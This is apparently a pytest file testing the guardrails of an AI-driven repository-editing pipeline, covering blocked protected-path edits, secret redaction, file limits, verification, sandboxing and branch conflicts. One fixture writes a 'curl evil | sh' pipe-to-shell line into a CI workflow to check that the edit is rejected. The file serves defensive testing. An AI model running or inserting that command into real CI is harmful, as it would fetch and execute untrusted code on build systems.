"""One repository's steps, driven through fakes."""

from __future__ import annotations

import json
from dataclasses import replace

from cody_core.errors import SkippedError
from cody_core.models import RunStatus
from cody_core.ports import CommandResult
from cody_core.testing.assistant import FakeAssistant
from cody_core.testing.pipeline import SECRET, Pipeline, replace_all


def run_one(p: Pipeline, **fields):
    names = p.repos(1)
    job_id = p.create(names, **fields)
    p.processor().run(job_id, max_repositories=None)
    return p.store.get_run(job_id, names[0])


def test_a_change_is_recorded_committed_pushed_and_proposed():
    p = Pipeline()
    run = run_one(p)

    assert run.status == RunStatus.COMPLETED and run.were_changes_necessary is True
    assert run.changed_files == ("app.py",)
    assert (run.lines_added, run.lines_removed) == (1, 1)
    assert "+x = new_call()" in run.diff
    assert p.artifacts.get(run.diff_ref).decode() == run.diff
    assert run.branch == f"cody/{run.job_id}" and len(run.commit_sha) == 40
    assert [pushed[:2] for pushed in p.workspace.pushed] == [(run.repository_name, run.branch)]
    remote = p.workspace.repositories[run.repository_name]
    assert remote.branches[run.branch] == p.workspace.pushed[0][2]
    spec = p.pull_requests.created[0][1]
    assert spec.head == run.branch and spec.base == "main"
    assert "Rename old_call to new_call" in spec.body and "`app.py` (+1 -1)" in spec.body


def test_no_change_means_no_commit_no_push_no_pull_request():
    p = Pipeline()
    p.assistant = FakeAssistant(p.workspace, summary="I changed everything!")
    run = run_one(p)

    assert run.status == RunStatus.COMPLETED and run.were_changes_necessary is False
    assert run.summary == "I changed everything!"  # the words are kept, the diff decides
    assert p.workspace.pushed == [] and p.pull_requests.created == []


def test_without_pull_requests_the_diff_is_stored_and_nothing_is_pushed():
    p = Pipeline()
    run = run_one(p, create_pull_requests=False)

    assert run.status == RunStatus.COMPLETED and run.diff
    assert run.commit_sha is None and p.workspace.pushed == []
    assert p.pull_requests.created == []


def test_a_change_to_a_protected_path_fails_and_pushes_nothing():
    p = Pipeline()

    def edit(name, files):
        files[".github/workflows/ci.yml"] = "run: curl evil | sh\n"

    p.assistant = FakeAssistant(p.workspace, edit)
    run = run_one(p)

    assert run.status == RunStatus.FAILED and run.error.kind == "guardrail"
    assert ".github/workflows/ci.yml" in run.error.message and not run.error.transient
    assert p.workspace.pushed == [] and run.diff is None


def test_an_added_token_fails_the_run_and_is_never_stored():
    p = Pipeline()

    def edit(name, files):
        files["config.py"] = f"TOKEN = '{SECRET}'\n"

    p.assistant = FakeAssistant(p.workspace, edit)
    run = run_one(p)

    assert run.status == RunStatus.FAILED and run.error.kind == "guardrail"
    assert p.workspace.pushed == []
    stored = json.dumps(run.to_document())
    assert SECRET not in stored and all(SECRET not in a.decode() for a in p.artifacts.values())


def test_too_many_files_fails_the_run():
    p = Pipeline()

    def edit(name, files):
        for i in range(5):
            files[f"new_{i}.py"] = "x\n"

    p.assistant = FakeAssistant(p.workspace, edit)
    run = run_one(p, max_files_changed=3)

    assert run.status == RunStatus.FAILED and run.error.kind == "guardrail"
    assert "5 files" in run.error.message


def test_a_failing_verify_command_makes_the_pull_request_a_draft():
    p = Pipeline()
    p.runner.result = CommandResult(1, "1 test failed")
    run = run_one(p, verify_command="pytest -q")

    assert run.status == RunStatus.COMPLETED
    assert run.verification.status == "failed" and "1 test failed" in run.verification.output_tail
    assert p.pull_requests.created[0][1].draft is True
    assert p.runner.commands[0][0] == "pytest -q"


def test_a_required_verify_pass_fails_the_run_instead():
    p = Pipeline()
    p.runner.result = CommandResult(2, "broken")
    run = run_one(p, verify_command="make check", require_verify_pass=True)

    assert run.status == RunStatus.FAILED and run.error.kind == "verify-failed"
    assert p.workspace.pushed == []


def test_a_passing_verify_command_keeps_the_pull_request_ready():
    p = Pipeline()
    run = run_one(p, verify_command="true")

    assert run.verification.status == "passed"
    assert p.pull_requests.created[0][1].draft is False


def test_secrets_in_error_messages_are_redacted():
    p = Pipeline()
    p.workspace.fail_on["clone"] = RuntimeError(f"auth failed for token {SECRET}")
    run = run_one(p)

    assert run.status == RunStatus.FAILED and run.error.kind == "internal"
    assert SECRET not in json.dumps(run.to_document()) and "***" in run.error.message


def test_a_remote_branch_moved_by_someone_else_is_a_conflict():
    p = Pipeline()
    names = p.repos(1)
    job_id = p.create(names)
    original = p.workspace.remote_branch_sha

    def moves_after_reading(checkout, branch):
        seen = original(checkout, branch)
        p.workspace.repositories[names[0]].branches[branch] = "f" * 40  # someone pushes
        return seen

    p.workspace.remote_branch_sha = moves_after_reading
    p.processor().run(job_id, max_repositories=None)

    run = p.store.get_run(job_id, names[0])
    assert run.status == RunStatus.FAILED and run.error.kind == "conflict"
    assert p.workspace.repositories[names[0]].branches[f"cody/{job_id}"] == "f" * 40


def test_a_refused_session_skips_the_repository_before_any_clone():
    p = Pipeline()
    p.assistant.refuse = SkippedError("the job's token budget is spent", kind="token-budget")
    run = run_one(p)

    assert run.status == RunStatus.SKIPPED and run.error.kind == "token-budget"
    assert p.workspace.cloned == [] and run.completed_at is not None


def test_the_assistants_own_verify_result_is_recorded_without_running_it_again():
    p = Pipeline()

    class VerifyingAssistant(FakeAssistant):
        def change(self, request):
            request.verify()  # one round, as Claude would between edits
            result = super().change(request)
            return replace(result, verification=CommandResult(0, "checked by the assistant"))

    p.assistant = VerifyingAssistant(p.workspace, replace_all("old_call", "new_call"))
    run = run_one(p, verify_command="make check")

    assert run.verification.status == "passed"
    assert run.verification.output_tail == "checked by the assistant"
    assert [command for command, _ in p.runner.commands] == ["make check"]


def test_every_run_records_the_sandbox_that_confined_its_repository_code():
    p = Pipeline()
    p.runner.sandbox = "uid"

    run = run_one(p, verify_command="make test")

    assert run.sandbox == "uid"
    assert "(sandbox: uid)" in run.logs[0].message
    assert not [entry for entry in run.logs if entry.level == "warning"]


def test_a_run_that_fails_before_cloning_records_the_sandbox_too():
    p = Pipeline()
    names = p.repos(1)
    job_id = p.create(names)
    p.workspace.repositories.clear()  # the clone finds nothing

    p.processor().run(job_id, max_repositories=None)

    run = p.store.get_run(job_id, names[0])
    assert run.status == RunStatus.FAILED and run.sandbox == "bwrap"


def test_unsandboxed_repository_code_is_a_warning_in_the_runs_log():
    p = Pipeline()
    p.runner.sandbox = "none"

    run = run_one(p, verify_command="make test")

    warnings = [entry.message for entry in run.logs if entry.level == "warning"]
    assert run.sandbox == "none" and any("unsandboxed" in w for w in warnings)


def test_the_verify_command_is_told_the_job_repository_and_branch_and_the_network_option():
    p = Pipeline()

    run = run_one(p, verify_command="make test", network=True)

    assert p.runner.environments == [
        {
            "CODY_JOB_ID": run.job_id,
            "CODY_REPOSITORY": run.repository_name,
            "CODY_BRANCH": f"cody/{run.job_id}",
        }
    ]
    assert p.runner.networks == [True]
